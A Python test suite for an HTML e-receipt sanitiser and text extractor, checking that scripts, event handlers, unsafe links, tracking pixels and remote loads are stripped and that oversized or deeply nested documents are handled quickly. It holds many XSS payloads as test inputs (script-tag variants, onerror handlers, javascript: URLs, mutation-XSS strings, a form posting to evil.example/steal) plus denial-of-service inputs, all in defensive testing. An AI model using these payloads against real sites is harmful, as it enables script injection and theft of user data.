"""HTML e-receipts as hostile input: the sanitised document (inbound_mail.html_receipt) can run
nothing and load nothing, whatever the markup, and the visible text (receipt_vault.html_text) is
what a person reads, in bounded time on any document.

Each sanitised document is inspected by `_inspect`, which reads it with the standard library's
parser, independently of the code under test: nh3 writes canonical markup (every attribute
quoted, `<`, `>` and `&` escaped in text and values, no comments), which every HTML parser reads
alike."""

from __future__ import annotations

import re
import time
from dataclasses import dataclass, field
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from inbound_mail.html_receipt import ALLOWED_TAGS, MAX_DEPTH, receipt_text, sanitize_html
from receipt_vault.html_text import MAX_EVENTS, MarkupReader, visible_text

HEAD = (
    '<!DOCTYPE html><html><head><meta charset="utf-8"><meta http-equiv="Content-Security-Policy" '
    "content=\"default-src 'none'; img-src data: cid:; style-src 'unsafe-inline'; base-uri 'none'; "
    'form-action \'none\'"><meta name="referrer" content="no-referrer"><title>Receipt</title></head><body>'
)
TAIL = "</body></html>"
PNG = (
    "data:image/png;base64,"
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="
)
SAFE_HREF = re.compile(r"(?:https?://|mailto:)", re.IGNORECASE)
SAFE_SRC = re.compile(r"cid:[^\s\"'<>]+|data:image/(?:png|jpe?g|gif|webp);base64,[A-Za-z0-9+/]+={0,2}", re.IGNORECASE)
# In an attribute value, what would mean code or a remote load (in text, it is only text).
DANGER = ("alert", "javascript", "vbscript", "url(", "@import", "expression(", "evil.example", "tracker.example")

RIDE = """<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><title>Your trip receipt</title>
<style>body { font-family: Helvetica; background: url(https://tracker.example/bg.png) }
.promo::after { content: "Total €0.00 next time" }</style>
<script>window.dataLayer = [{"event": "receipt_view", "upsell": "Total €99.00"}];</script>
</head><body>
<table role="presentation" width="100%"><tr>
<td><img src="https://cdn.tracker.example/logo.png" alt="Swift Rides" width="120" height="32"></td>
<td align="right">Saturday, 14&nbsp;November 2026</td></tr></table>
<h1>Thanks for riding, Maria</h1>
<table class="fare" width="100%">
<tr><td>Trip fare</td><td class="amount">&euro;18.30</td></tr>
<tr><td>Airport surcharge</td><td class="amount">€3.50</td></tr>
<tr><td>Booking fee &amp; tip</td><td class="amount">&#8364;1.60</td></tr>
<tr class="total"><td><b>Total</b></td><td class="amount"><b>€23.40</b></td></tr>
</table>
<p>Paid with Visa •••• 4242</p>
<p>22:21 Karl-Marx-Allee 34 → 22:48 Flughafen BER, 12529 Schönefeld</p>
<img src="https://tracker.example/o/7f3c2a9e.gif" width="1" height="1" alt="" style="display:none">
</body></html>
"""


@dataclass
class Inspection:
    """What a parser finds in a sanitised document's body."""

    tags: list[tuple[str, dict[str, str | None]]] = field(default_factory=list)
    comments: list[str] = field(default_factory=list)
    declarations: list[str] = field(default_factory=list)
    text: str = ""

    def named(self, tag: str) -> list[dict[str, str | None]]:
        return [attributes for name, attributes in self.tags if name == tag]


class _Inspector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found = Inspection()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.tags.append((tag, dict(attrs)))

    def handle_comment(self, data: str) -> None:
        self.found.comments.append(data)

    def handle_decl(self, decl: str) -> None:
        self.found.declarations.append(decl)

    def handle_pi(self, data: str) -> None:
        self.found.declarations.append(data)

    def unknown_decl(self, data: str) -> None:
        self.found.declarations.append(data)

    def handle_data(self, data: str) -> None:
        self.found.text += data


def _inspect(document: str) -> Inspection:
    """Checks the invariants every sanitised document keeps, and returns what its body holds."""
    assert document.startswith(HEAD) and document.endswith(TAIL)
    body = document[len(HEAD) : -len(TAIL)]
    inspector = _Inspector()
    inspector.feed(body)
    inspector.close()
    found = inspector.found
    assert found.comments == [] and found.declarations == []
    for tag, attributes in found.tags:
        assert tag in ALLOWED_TAGS, tag
        for name, value in attributes.items():
            assert not name.startswith("on") and name not in ("style", "background", "srcset", "class", "id")
            assert value is not None
            if name == "href":
                assert tag == "a" and SAFE_HREF.match(value), value
            if name == "src":
                assert tag == "img" and SAFE_SRC.fullmatch(value), value
            if name == "rel":
                assert tag == "a" and value == "noopener noreferrer nofollow"
        if tag == "img":
            assert "src" in attributes
        for name, value in attributes.items():  # a link may go anywhere on the web, but only there
            words = DANGER if name != "href" else DANGER[:-2]
            assert not any(word in str(value).lower() for word in words), value
    lowered = body.lower()
    for element in ("<script", "<style", "<iframe", "<svg", "<math", "<object", "<embed", "<form", "<input", "<link"):
        assert element not in lowered
    assert "<meta" not in lowered and "<base" not in lowered and "<title" not in lowered
    return found


def sanitized(html: str) -> Inspection:
    return _inspect(sanitize_html(html))


# ---- The sanitised document: nothing runs ---------------------------------------------------


@pytest.mark.parametrize(
    "markup",
    [
        "<script>alert(1)</script>",
        "<ScRiPt>alert(1)</sCrIpT>",
        "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
        '<script/src="https://evil.example/x.js"></script>',
        "<script/>alert(1)</script>",
        "<script >alert(1)</script >",
        "<script type=module>import('https://evil.example')</script>",
        "<scr<script>ipt>alert(1)</script>",
        "<script>alert(1)",  # never closed: the rest is script
        "<svg><script>alert(1)</script></svg>",
        "<svg/onload=alert(1)>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
        "<style><img src=x onerror=alert(1)></style>",
        "<textarea><script>alert(1)</script></textarea>",
        "<title><img src=x onerror=alert(1)></title>",
        "<template><script>alert(1)</script></template>",
        "<xmp><img src=x onerror=alert(1)></xmp>",
        '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
        '<iframe src="https://evil.example">fallback</iframe>',
        '<object data="https://evil.example/x.swf"><param name=x value=y></object>',
        '<embed src="https://evil.example/x.swf">',
        "<applet code=x.class></applet>",
        '<frameset><frame src="https://evil.example"></frameset>',
    ],
)
def test_no_script_survives_in_any_spelling(markup: str) -> None:
    found = sanitized(f"<p>before</p>{markup}<p>after</p>")
    assert "before" in found.text
    if "<scr<script>" not in markup:  # there, as in a browser, `ipt>alert(1)` is text
        assert "alert" not in found.text and "import" not in found.text


@pytest.mark.parametrize(
    "markup",
    [
        "<img src=x onerror=alert(1)>",
        '<img src="cid:logo@shop" onerror="alert(1)" ONLOAD="alert(2)">',
        "<img/src=x/onerror=alert(1)>",
        "<body onload=alert(1)>text",
        '<div onmouseover="alert(1)">text</div>',
        '<a href="https://shop.example/" onclick="alert(1)">text</a>',
        "<details open ontoggle=alert(1)>text</details>",
        '<p onpointerenter="alert(1)" onfocus=alert(1) tabindex=1 autofocus>text</p>',
        "<table onresize=alert(1)><tr><td onclick=alert(1)>text</td></tr></table>",
        '<img src="cid:x&quot; onerror=&quot;alert(1)">',
        "<b o\x00nclick=alert(1)>text</b>",
    ],
)
def test_no_event_handler_survives_on_any_tag(markup: str) -> None:
    found = sanitized(markup)
    assert "alert" not in found.text


@pytest.mark.parametrize(
    "href",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java&#x73;cript:alert(1)",
        "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)",
        "java\tscript:alert(1)",
        "java&#x0A;script:alert(1)",
        " \x01javascript:alert(1)",
        "javascript&colon;alert(1)",
        "vbscript:msgbox(1)",
        "data:text/html,<script>alert(1)</script>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "DATA:image/png;base64,iVBORw0KGgo=",
        "cid:part@shop",
        "//evil.example/path",
        "/relative/path",
        "file:///etc/passwd",
        "https://" + "a" * 5000 + ".example/",
    ],
)
def test_links_lead_only_to_http_https_or_mailto(href: str) -> None:
    found = sanitized(f'<a href="{href}">the link text</a>')
    assert found.named("a") == [{"rel": "noopener noreferrer nofollow"}]
    assert "the link text" in found.text


def test_safe_links_stay_with_rel_noopener_noreferrer_nofollow() -> None:
    found = sanitized(
        '<a href="https://shop.example/orders/1043?utm=x&amp;y=2">Order</a> '
        '<a href="HTTP://shop.example/">Shop</a> <a href="mailto:help@shop.example">Help</a> '
        '<a href="https://first.example/" href="javascript:alert(1)">first wins</a>'
    )
    hrefs = [attributes["href"] for attributes in found.named("a")]
    assert hrefs == [
        "https://shop.example/orders/1043?utm=x&y=2",
        "HTTP://shop.example/",
        "mailto:help@shop.example",
        "https://first.example/",
    ]
    assert all(attributes["rel"] == "noopener noreferrer nofollow" for attributes in found.named("a"))


def test_a_repeated_attribute_is_its_first_value_as_in_html() -> None:
    found = sanitized('<a href="javascript:alert(1)" href="https://shop.example/">x</a>')
    assert "href" not in found.named("a")[0]


# ---- The sanitised document: nothing loads --------------------------------------------------


@pytest.mark.parametrize(
    "markup",
    [
        '<img src="https://cdn.tracker.example/logo.png" alt="Logo">',
        '<img src="http://tracker.example/o/7f3c.gif" width="1" height="1">',
        '<img src="https://tracker.example/p.gif" width=1 height=1 style="display:none" alt="">',
        '<img src="//tracker.example/p.gif">',
        '<img src="/p.gif">',
        '<img src="p.gif">',
        '<img srcset="https://tracker.example/a.png 1x, https://tracker.example/b.png 2x">',
        "<img>",
        '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
        '<img src="data:text/html;base64,PHNjcmlwdD4=">',
        '<img src="data:image/png,notbase64">',
        '<img src="cid:x y">',
        '<image src="https://tracker.example/p.gif">',
        '<picture><source srcset="https://tracker.example/a.webp"><img src="https://tracker.example/a.png"></picture>',
        '<video poster="https://tracker.example/p.png" src="https://tracker.example/v.mp4"></video>',
        '<audio src="https://tracker.example/a.mp3"></audio>',
        '<input type="image" src="https://tracker.example/p.gif">',
        '<table background="https://tracker.example/bg.png"><tr><td background="https://tracker.example/c.png">x</td></tr></table>',
        '<body background="https://tracker.example/bg.png">x',
        '<p style="background-image: url(https://tracker.example/bg.png)">x</p>',
        "<div style=\"background:url('https://tracker.example/bg.png')\">x</div>",
        "<style>@import url(https://tracker.example/s.css); p { background: url(https://tracker.example/x) }</style>",
        '<link rel="stylesheet" href="https://tracker.example/s.css">',
        '<link rel="preload" as="image" href="https://tracker.example/p.png">',
        '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
        '<base href="https://evil.example/">',
        '<form action="https://evil.example/steal" method="post"><input name="card" value="4242">'
        "<button>Pay</button></form>",
        '<a ping="https://tracker.example/ping" href="https://shop.example/">x</a>',
    ],
)
def test_nothing_remote_survives(markup: str) -> None:
    found = sanitized(f"<p>before</p>{markup}<p>after</p>")
    assert found.named("img") == []
    assert "tracker.example" not in str(found.tags) and "evil.example" not in str(found.tags)
    assert "before" in found.text and "after" in found.text


def test_a_tracking_pixel_goes_whole_and_inline_images_stay() -> None:
    found = sanitized(
        f'<img src="cid:logo.1043@acme.example" alt="Acme Store" width="16" height="16" onerror="alert(1)">'
        f'<img src="{PNG}" srcset="https://tracker.example/2x.png 2x" alt="Receipt">'
        '<img src="https://tracker.example/o.gif" width="1" height="1">'
        '<img src="data:image/jpeg;base64,/9j/4AAQSkZJRg==" width="100%">'
    )
    assert found.named("img") == [
        {"src": "cid:logo.1043@acme.example", "alt": "Acme Store", "width": "16", "height": "16"},
        {"src": PNG, "alt": "Receipt"},
        {"src": "data:image/jpeg;base64,/9j/4AAQSkZJRg==", "width": "100%"},
    ]


def test_comments_hide_nothing_that_could_run() -> None:
    found = sanitized(
        "<p>a</p><!-- <script>alert(1)</script> --><p>b</p>"
        "<!--[if gte mso 9]><xml><script>alert(1)</script></xml><![endif]-->"
        "<!--> <script>alert(1)</script> -->"
        "<!-- x --!> <script>alert(1)</script> -->"
        "<!--[if !mso]><!--><p>c</p><!--<![endif]-->"
        "<p>d"
    )
    assert found.comments == [] and "alert" not in found.text
    assert "a" in found.text and "b" in found.text and "d" in found.text


@pytest.mark.parametrize("markup", ["<![CDATA[<script>alert(1)</script>]]>", "<? xml <script>alert(1)</script> ?>"])
def test_a_bogus_comment_ends_at_its_first_bracket_and_what_follows_is_text(markup: str) -> None:
    found = sanitized(markup)  # as in HTML: `<![CDATA[<script>` is a comment, the rest text
    assert [tag for tag, _ in found.tags] == [] and "alert(1)" in found.text


def test_harmless_layout_attributes_stay_and_their_dangerous_values_go() -> None:
    found = sanitized(
        '<table width="100%" border="0" cellpadding="4" cellspacing="0" bgcolor="#ffffff" align="center">'
        '<tr valign="top"><td colspan="2" align="right" width="50%" bgcolor="red">x</td>'
        '<td width="expression(alert(1))" bgcolor="url(https://tracker.example/)" align="javascript:x" '
        'rowspan="2;x">y</td></tr>'
        '</table><p align="center" dir="rtl" lang="he" class="x" id="clobber" name="n">שלום</p>'
        '<font color="#333" size="2" face="Arial">f</font>'
    )
    assert found.named("table") == [
        {
            "width": "100%",
            "border": "0",
            "cellpadding": "4",
            "cellspacing": "0",
            "bgcolor": "#ffffff",
            "align": "center",
        }
    ]
    assert found.named("tr") == [{"valign": "top"}]
    assert found.named("td") == [{"colspan": "2", "align": "right", "width": "50%", "bgcolor": "red"}, {}]
    assert found.named("p") == [{"align": "center", "dir": "rtl", "lang": "he"}]
    assert found.named("font") == [{"color": "#333", "size": "2"}]


def test_text_that_looks_like_markup_stays_text() -> None:
    document = sanitize_html("<p>5 &lt; 6 &amp;&amp; 7 &gt; 1 &lt;script&gt;alert(1)&lt;/script&gt;</p>")
    assert "<p>5 &lt; 6 &amp;&amp; 7 &gt; 1 &lt;script&gt;" in document
    assert visible_text(document) == "5 < 6 && 7 > 1 <script>alert(1)</script>"


# ---- The sanitised document: the receipt still shows ----------------------------------------


def test_the_receipt_keeps_its_formatting_and_tables() -> None:
    document = sanitize_html(RIDE)
    found = _inspect(document)
    assert [tag for tag, _ in found.tags].count("tr") == 5
    assert "<b>€23.40</b>" in document and "<h1>Thanks for riding, Maria</h1>" in document
    assert "Schönefeld" in document and "•••• 4242" in document and "→" in document
    assert found.named("img") == []  # the remote logo and the pixel
    assert "dataLayer" not in document and "font-family" not in document and "Your trip receipt" not in document


@pytest.mark.parametrize(
    ("markup", "body"),
    [
        ("<p>a<p>b<div>c</div>d", "<p>a</p><p>b</p><div>c</div>d"),
        ("<ul><li>one<li>two<b>bold<li>three</ul>", "<ul><li>one</li><li>two<b>bold</b></li><li>three</li></ul>"),
        ("<dl><dt>k<dd>v<dt>k2<dd>v2</dl>", "<dl><dt>k</dt><dd>v</dd><dt>k2</dt><dd>v2</dd></dl>"),
        ("<h1>a<h2>b</h2>", "<h1>a</h1><h2>b</h2>"),
        (
            '<a href="https://a.example/">one<a href="https://b.example/">two</a>',
            '<a href="https://a.example/" rel="noopener noreferrer nofollow">one</a>'
            '<a href="https://b.example/" rel="noopener noreferrer nofollow">two</a>',
        ),
        (
            "<table><td>a<td>b<tr><td>c<th>d</table>",
            "<table><tbody><tr><td>a</td><td>b</td></tr><tr><td>c</td><th>d</th></tr></tbody></table>",
        ),
        (
            "<p>para<table><tr><td>cell</td></tr></table>",
            "<p>para</p><table><tbody><tr><td>cell</td></tr></tbody></table>",
        ),
        (
            "<table><caption>cap<tr><td>z</table>",
            "<table><caption>cap</caption><tbody><tr><td>z</td></tr></tbody></table>",
        ),
        (
            "<table><tr><td>x</td></tr><tr>loose<td>y</table>",
            "loose<table><tbody><tr><td>x</td></tr><tr><td>y</td></tr></tbody></table>",
        ),
    ],
)
def test_what_html_closes_implicitly_is_closed_as_a_browser_would(markup: str, body: str) -> None:
    assert sanitize_html(markup) == HEAD + body + TAIL


def test_non_ascii_text_survives_in_the_html_and_the_text() -> None:
    words = ["Ελληνικά", "Schönefeld", "€23,40", "東京駅", "₹1,299", "😀👍🏽", "مرحبا", "Œuvre ﬁne"]
    html = "".join(f"<p>{word}</p>" for word in words)
    document = sanitize_html(html)
    for word in words:
        assert word in document
    assert receipt_text(html).split("\n\n") == words


@pytest.mark.parametrize(
    "markup",
    [
        "<p>unclosed <b>bold <i>both",
        "<table><td>no row<td>nor body",
        "</p></div></table></b>stray ends",
        "<b><i>mis</b>nested</i>",
        "<p>a <a href='https://shop.example/'>link <p>in two",
        "text with a stray < and </ and <>< and </ > and <3",
        '<a href="https://shop.example/ unclosed quote',
        "<p title='never closed",
        "<!-- never closed",
        "<!DOCTYPE html",
        "<![ x ]]>after<![foo[ y",  # marked sections: Python 3.11's parser would fail an assertion
        "&amp &#xZZ; &#99999999; &#0; &#xD800; &bogus; &",
        "nul\x00bytes<scr\x00ipt>alert(1)</script>",
        "lone \ud800 surrogate",
        "<div" * 2000,
        "<<<<>>>>" * 500,
    ],
)
def test_malformed_markup_never_raises(markup: str) -> None:
    sanitized(markup)
    visible_text(markup)
    receipt_text(markup)


FRAGMENTS = [
    "<script>", "</script>", "<style>", "</style>", "<svg>", "</svg>", "<math>", "<table>", "</table>", "<tr>",
    "<td>", "</td>", "<th>", "<p>", "</p>", "<div>", "</div>", "<b>", "</b>", "<i>", "<a ", "</a>",
    "<a href='javascript:alert(1)'>", "<a href=https://shop.example/>", "<img ", "src=", "'cid:x'", f'"{PNG}"',
    "onerror=alert(1)", " style='background:url(https://tracker.example/)'", ">", "/>", "<", "</", "<!--", "-->",
    "<![CDATA[", "]]>", "<!", "<?", "'", '"', "=", "&", "&amp;", "&#x6a;", "\x00", "<noscript>", "<iframe>",
    "<textarea>", "</textarea>", "<title>", "<li>", "<ul>", "<h1>", "<br>", "<base href=https://evil.example/>",
    "<form>", "<input>", "\n", "<pre>", "</pre>", "<caption>", "<tbody>", "<dd>", "<hr>", "w " * 12_000,
]  # fmt: skip


@given(st.lists(st.one_of(st.sampled_from(FRAGMENTS), st.text(max_size=8)), max_size=40))
@settings(max_examples=300)
def test_any_soup_of_hostile_fragments_comes_out_inert(pieces: list[str]) -> None:
    markup = "".join(pieces)
    document = sanitize_html(markup)
    _inspect(document)
    assert _inspect(sanitize_html(document)).tags == _inspect(document).tags  # stable
    for text in (visible_text(markup), visible_text(document), receipt_text(markup)):
        assert "\x00" not in text and len(text) <= 20000


# ---- Bounded: time, memory and output on hostile documents ----------------------------------

FIVE_MB = 5 * 1024 * 1024


def _timed(function: object, *args: str) -> tuple[str, float]:
    assert callable(function)
    started = time.perf_counter()
    result = function(*args)
    return result, time.perf_counter() - started


# Without the rewrite, nh3 alone takes minutes on the first (html5ever's scope checks grow with
# the nesting) and turns 15 KB of the third into 12 MB (it re-opens the formatting elements
# an implicit close pops, for every paragraph).
_DISTINCT_BOLDS = "".join(f'<b lang="x{index}">' for index in range(800))
HOSTILE_DOCUMENTS = {
    "a million nested divs": "<div>" * (FIVE_MB // 5),
    "nested tables": "<table><tr><td>" * (FIVE_MB // 15),
    "formatting re-opened by every paragraph": ("<p>" + _DISTINCT_BOLDS + "<p>x" * 2000) * (FIVE_MB // 19000),
    "a realistic receipt, repeated": (RIDE * (FIVE_MB // len(RIDE))),
    "an inline image of 5 MB": f'<p>Total €23.40</p><img src="data:image/png;base64,{"A" * FIVE_MB}">',
    "a million unclosed comments": "<!--" * (FIVE_MB // 4),
    "unclosed quoted values": "<a b='" * (FIVE_MB // 6),  # stock html.parser: 240 KB take 5 minutes
    "five million stray brackets": "<" * FIVE_MB,
}


@pytest.mark.parametrize("name", list(HOSTILE_DOCUMENTS))
def test_a_5_mb_document_is_sanitised_quickly_into_a_bounded_document(name: str) -> None:
    html = HOSTILE_DOCUMENTS[name]
    assert len(html) >= FIVE_MB * 0.99
    document, seconds = _timed(sanitize_html, html)
    assert seconds < 20, seconds  # about a second here; unbounded, these take minutes or explode
    assert len(document) <= 3 * len(html) + 1024  # end tags and rel, never a re-opened copy
    found = _inspect(document) if len(document) < 2_000_000 else None
    if found is not None:
        assert len(found.tags) <= MAX_EVENTS
    text, seconds = _timed(visible_text, html)
    assert seconds < 20, seconds
    assert len(text) <= 20000


def test_the_rewrite_bounds_nesting_and_reopening() -> None:
    document = sanitize_html("<div>" * 10_000 + "deep" + "</div>" * 10_000)
    assert document.count("<div>") == MAX_DEPTH and "deep" in document
    amplifying = "<p>" + _DISTINCT_BOLDS + "<p>x" * 800  # 15 KB
    assert len(sanitize_html(amplifying)) < 2 * len(amplifying)


def test_a_document_past_the_event_budget_is_read_up_to_it() -> None:
    html = "<p>Total €23.40</p>" + "<b>x</b>" * MAX_EVENTS + "<p>never read</p>"
    text = visible_text(html, max_chars=10**9)
    assert text.startswith("Total €23.40") and "never read" not in text
    assert "never read" not in sanitize_html(html)


def test_reading_stops_on_a_tag_of_a_million_attributes() -> None:
    html = "<p>Total €23.40</p><a " + "x " * 1_000_000 + ">after"
    document = sanitize_html(html)
    assert "Total €23.40" in document and "after" not in document
    reader = MarkupReader()
    assert reader.read(html) is False


# ---- The visible text ----------------------------------------------------------------------


def test_a_ride_receipt_reads_line_by_line_with_its_cells_side_by_side() -> None:
    text = receipt_text(RIDE)
    assert text.split("\n") == [
        "Saturday, 14 November 2026",
        "",
        "Thanks for riding, Maria",
        "",
        "Trip fare €18.30",
        "Airport surcharge €3.50",
        "Booking fee & tip €1.60",
        "Total €23.40",
        "",
        "Paid with Visa •••• 4242",
        "",
        "22:21 Karl-Marx-Allee 34 → 22:48 Flughafen BER, 12529 Schönefeld",
    ]
    assert visible_text(RIDE) == text  # the raw document reads the same
    for decoy in ("dataLayer", "€99.00", "€0.00", "font-family", "Your trip receipt", "{", "<"):
        assert decoy not in text


def test_blocks_break_lines_and_blank_lines_collapse() -> None:
    html = (
        "<div>one</div><div>two<br>three<br><br><br><br>four</div>"
        "<p>five</p><p></p><p></p><p>six</p><ul><li>seven</li><li>eight</li></ul>"
        "<h2>nine</h2>ten<hr>eleven<pre>twelve   a\nthirteen\n\nfourteen</pre>"
    )
    assert visible_text(html) == (
        "one\ntwo\nthree\n\nfour\n\nfive\n\nsix\n\nseven\neight\n\nnine\n\nten\n\neleven\n\n"
        "twelve a\nthirteen\n\nfourteen"
    )


def test_whitespace_collapses_within_a_line_and_entities_decode() -> None:
    html = (
        "<p>  Total\n\t  &nbsp;&euro;&#8364;&#x20AC;&amp;&lt;&gt;&quot;&apos; 23.40\u200b\u00ad&zwnj;&nbsp;&zwnj; </p>"
    )
    assert visible_text(html) == "Total €€€&<>\"' 23.40"


def test_cells_share_a_line_unless_one_holds_several() -> None:
    html = (
        "<table><tr><th>Item</th><th>Price</th></tr>"
        "<tr><td><p>Desk organiser</p></td><td><div>19.90</div></td></tr>"
        "<tr><td>Pen<br><small>blue</small></td><td>21.50</td></tr>"
        "<tr><td></td><td>  </td></tr>"
        "<tr><td>Nested<table><tr><td>inner</td><td>row</td></tr></table></td></tr>"
        "<tr><td>TOTAL</td><td>41.40</td></tr></table>"
    )
    assert visible_text(html).split("\n") == [
        "Item Price",
        "Desk organiser 19.90",
        "Pen",
        "blue",
        "21.50",
        "Nested",
        "inner row",
        "TOTAL 41.40",
    ]


@pytest.mark.parametrize(
    "hidden",
    [
        "<script>var secret = 1;</script>",
        "<script type='text/template'><p>secret</p></script>",
        "<style>p::after { content: 'secret' }</style>",
        "<title>secret</title>",
        "<template><p>secret</p></template>",
        "<noscript>secret</noscript>",
        "<iframe>secret</iframe>",
        "<!-- secret -->",
        "<!--[if mso]>secret<![endif]-->",
        "<head><title>secret</title><style>x</style><meta name=secret></head>",
        "<noscript><noscript>secret</noscript>secret</noscript>",
    ],
)
def test_nothing_hidden_is_text(hidden: str) -> None:
    text = visible_text(f"<p>shown</p>{hidden}<p>also shown</p>")
    assert "secret" not in text and text.startswith("shown") and text.endswith("also shown")


def test_the_text_is_truncated_to_max_chars() -> None:
    html = "<p>" + "word " * 10_000 + "</p>"
    assert len(visible_text(html)) <= 20000
    assert visible_text(html, max_chars=11) == "word word w"
    assert visible_text("<p>abc</p>", max_chars=0) == ""
    assert visible_text("<td>" + "é" * 50_000, max_chars=100) == "é" * 100


@pytest.mark.parametrize(
    "html",
    [
        "<table><tr><td>" + "word " * 10_000,
        "<table><tr><td>a</td><td>" + "b" * 30_000,
        "<table><tr><td>" * 50 + "word " * 10_000,
        "<pre>" + "line\n" * 10_000,
        "<ul><li>" + "<li>item" * 10_000,
    ],
)
def test_a_document_cut_off_inside_long_text_is_laid_out_to_max_chars(html: str) -> None:
    for document in (html, sanitize_html(html)):
        text = visible_text(document)
        assert 0 < len(text) <= 20000


def test_deep_nesting_needs_no_recursion() -> None:
    assert visible_text("<div><span>" * 40_000 + "bottom" + "</span></div>" * 40_000) == "bottom"
    assert visible_text("<table><tr><td>" * 30_000 + "bottom") == "bottom"
    assert visible_text("<noscript>" * 90_000 + "hidden") == ""


def test_a_text_of_many_character_references_reaches_nh3_split_into_short_text_nodes():
    """html5ever slows down quadratically on one text node of many references (`&#&#...`, which
    an adversary sent to time the function out): the sanitiser splits it with empty spans."""
    from inbound_mail.html_receipt import REFERENCES_PER_TEXT_NODE

    sanitised = sanitize_html("<p>Total 1.00</p>" + "&#" * 20_000)
    runs = sanitised.split("<span></span>")
    assert len(runs) > 20_000 // REFERENCES_PER_TEXT_NODE
    assert max(run.count("&") for run in runs) <= REFERENCES_PER_TEXT_NODE + 5
    assert visible_text(sanitised).startswith("Total 1.00")
